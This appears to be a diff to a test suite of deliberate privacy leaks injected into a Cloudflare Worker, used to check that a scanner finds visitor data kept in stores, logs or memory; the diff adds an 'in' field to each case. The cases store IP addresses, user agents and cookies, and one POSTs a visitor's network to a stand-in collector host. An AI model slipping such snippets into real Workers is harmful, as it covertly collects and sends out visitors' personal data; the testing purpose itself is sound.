@@ -13,11 +13,10 @@ export interface Leak {
   readonly before?: string;
   /** Statements after it; they may assign to `response`. */
   readonly after?: string;
-  /** A module below the repository's root that is changed. */
-  readonly replacement?: { readonly path: string; readonly replace: (text: string) => string };
+  /** Bindings that the real Worker does not have. */
   readonly options?: WorkerOptions;
-  /** Leaks only from a page of the dashboard, to a signed-in owner. */
-  readonly inDashboard?: boolean;
+  /** Which examination is to find it: of stores, of isolates in plain workerd, or of the dashboard's memory. */
+  readonly in: 'stores' | 'workerd' | 'dashboard';
 }
 
 const address = "(request.headers.get('CF-Connecting-IP') ?? '')";
@@ -29,11 +28,13 @@ const inStores: readonly Leak[] = [
   {
     name: 'an address as a key',
     sink: 'KV on disk',
+    in: 'stores',
     before: `await env.PROJECTS.put('seen:' + ${address}, '1');`,
   },
   {
     name: 'the SHA-256 of an address in a row',
     sink: 'D1 on disk',
+    in: 'stores',
     before: `${sha256}
     await env.DB.prepare('CREATE TABLE IF NOT EXISTS seen (hash TEXT)').run();
     await env.DB.prepare('INSERT INTO seen VALUES (?)').bind(hash).run();`,
@@ -41,6 +42,7 @@ const inStores: readonly Leak[] = [
   {
     name: 'packed bytes of an address',
     sink: 'Durable Objects on disk',
+    in: 'stores',
     state: `import { DurableObject } from 'cloudflare:workers';
 export class Seen extends DurableObject {
   async fetch(request: Request) {
@@ -55,6 +57,7 @@ export class Seen extends DurableObject {
   {
     name: 'a user agent, base64, in the URL of a cached response',
     sink: 'cache on disk',
+    in: 'stores',
     before: `const agent = btoa(request.headers.get('User-Agent') ?? '').replaceAll('=', '');
     const cached = new Response('1', { headers: { 'Cache-Control': 'max-age=60' } });
     await caches.default.put('https://cache.example/' + agent, cached);`,
@@ -62,6 +65,7 @@ export class Seen extends DurableObject {
   {
     name: 'an address in a store that wrangler.toml does not have',
     sink: 'other files',
+    in: 'stores',
     before: `await env.BUCKET.put('last', ${address});`,
     options: { r2Buckets: ['BUCKET'] },
   },
@@ -71,37 +75,44 @@ const outside: readonly Leak[] = [
   {
     name: 'the network of an address, sent to a collector',
     sink: 'requests to the internet',
+    in: 'stores',
     before: `const network = ${address}.split('.').slice(0, 3).join('.') + '.0/24';
     await fetch('https://collector.example/', { method: 'POST', body: network });`,
   },
   {
     name: 'an address as a number in console.log',
     sink: 'stdout',
+    in: 'stores',
     before: `console.log(${number});`,
   },
   {
     name: 'a language in console.error',
     sink: 'stderr',
+    in: 'stores',
     before: "console.error(request.headers.get('Accept-Language'));",
   },
   {
     name: 'a path in an uncaught exception',
     sink: 'stderr',
-    before: 'context.waitUntil(Promise.reject(new Error(request.url)));',
+    in: 'workerd',
+    before: 'throw new Error(request.url);',
   },
   {
     name: 'requests counted by address',
     sink: 'binding calls',
+    in: 'stores',
     before: `await env.RATE_STANDARD.limit({ key: ${address} });`,
   },
   {
     name: 'a call that is not on the list',
     sink: 'binding calls',
+    in: 'stores',
     before: 'await env.PROJECTS.list();',
   },
   {
     name: 'the previous address in a header',
     sink: 'other responses',
+    in: 'stores',
     state: "let last = '';",
     after: `response = new Response(response.body, response);
     response.headers.set('X-Last', last);
@@ -110,6 +121,7 @@ const outside: readonly Leak[] = [
   {
     name: 'the path in the body',
     sink: 'refusals',
+    in: 'stores',
     after:
       'if (!response.ok) response = new Response((await response.text()) + new URL(request.url).search, response);',
   },
@@ -119,51 +131,55 @@ const inMemory: readonly Leak[] = [
   {
     name: 'addresses in a Set',
     sink: 'heap objects',
+    in: 'workerd',
     state: 'const seen = new Set();',
     before: `seen.add(${address});`,
   },
   {
     name: 'addresses as numbers in a Map',
     sink: 'heap objects',
+    in: 'workerd',
     state: 'const seen = new Map();',
     before: `seen.set(${number}, 1);`,
   },
   {
     name: 'a few letters cut from a URL, which keep the whole text alive',
     sink: 'heap objects',
+    in: 'workerd',
     state: "let last = '';",
     before: 'last = request.url.slice(0, 30);',
   },
   {
     name: 'a client hint looked up in an object, whose key the engine keeps',
     sink: 'heap objects',
+    in: 'workerd',
     state: 'const names: any = { Chromium: 1 }; let known = 0;',
     before: "known += names[request.headers.get('Sec-CH-UA-Model') ?? ''] ?? 0;",
   },
   {
     name: 'a session cookie matched by a pattern, whose last subject the engine keeps',
     sink: 'heap objects',
-    inDashboard: true,
-    replacement: {
-      path: 'src/edge/request/reset-regexp-statics.ts',
-      replace: (text) => text.replace("/^/.exec('');", ''),
-    },
+    in: 'dashboard',
+    after: "/__Host-wherefrom=([^;]*)/.exec(request.headers.get('Cookie') ?? '');",
   },
   {
     name: 'a closure that waits for a timer',
     sink: 'heap objects',
+    in: 'workerd',
     before: `const agent = request.headers.get('User-Agent');
     context.waitUntil(new Promise((resolve) => setTimeout(() => resolve(agent), 60000)));`,
   },
   {
     name: 'packed addresses in a typed array',
     sink: 'heap buffers',
+    in: 'workerd',
     state: 'const ring = new Uint32Array(64); let at = 0;',
     before: `ring[at++ % 64] = ${number};`,
   },
   {
     name: 'addresses as numbers in a list',
     sink: 'heap buffers',
+    in: 'workerd',
     state: 'const seen: number[] = [];',
     before: `seen.push(${number} + 0.5 - 0.5);`,
   },
